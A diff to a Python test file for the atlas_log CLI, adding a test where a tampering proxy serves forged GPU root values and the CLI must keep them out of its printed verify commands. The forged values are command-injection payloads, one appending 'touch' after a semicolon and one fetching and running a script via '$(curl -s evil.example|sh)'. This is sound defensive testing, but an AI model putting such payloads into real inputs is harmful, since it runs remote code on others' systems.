@@ -358,6 +358,24 @@ def test_an_entrys_gpu_evidence_downloads_and_reverifies_offline(
         assert args[:3] == ["atlas-log", "gpu", "verify"]
         ran = subprocess.run([*base[:3], *args[1:]], capture_output=True, text=True, timeout=120)
         assert ran.returncode == 0 and "ACCEPTED" in ran.stdout, command + "\n" + ran.stdout + ran.stderr
+    # Through a lying log, roots it names that are not fingerprints stay out of the printed commands.
+    from tests.proxy import TamperingProxy
+
+    proxy = TamperingProxy(gpu_server.url)
+    evil = {"device": "0" * 64 + "; touch /tmp/atlas-pwned #", "rim": "$(curl -s evil.example|sh)"}
+    proxy.on_get = lambda url, answer: {**answer, "gpuRoots": evil} if url.path.endswith("/evidence") else answer
+    try:
+        lied = [sys.executable, "-m", "atlas_log.cli", "--server", proxy.url, "--vkey", gpu_server.vkey]
+        done = subprocess.run(
+            [*lied, "evidence", str(index), "--out", str(tmp_path / "ev 2")],
+            capture_output=True,
+            text=True,
+            timeout=120,
+        )
+    finally:
+        proxy.close()
+    assert done.returncode == 0 and "touch" not in done.stdout and "$(" not in done.stdout, done.stdout
+    assert "'" + str(tmp_path / "ev 2") in done.stdout  # a folder with a space, quoted in the command
     # What a lying log might serve instead: another RIM under a recorded digest, or other GPU evidence.
     answer = http.get(f"/api/v1/entries/{index}/evidence").json()
     with LogClient(gpu_server.url, gpu_server.vkey) as client:
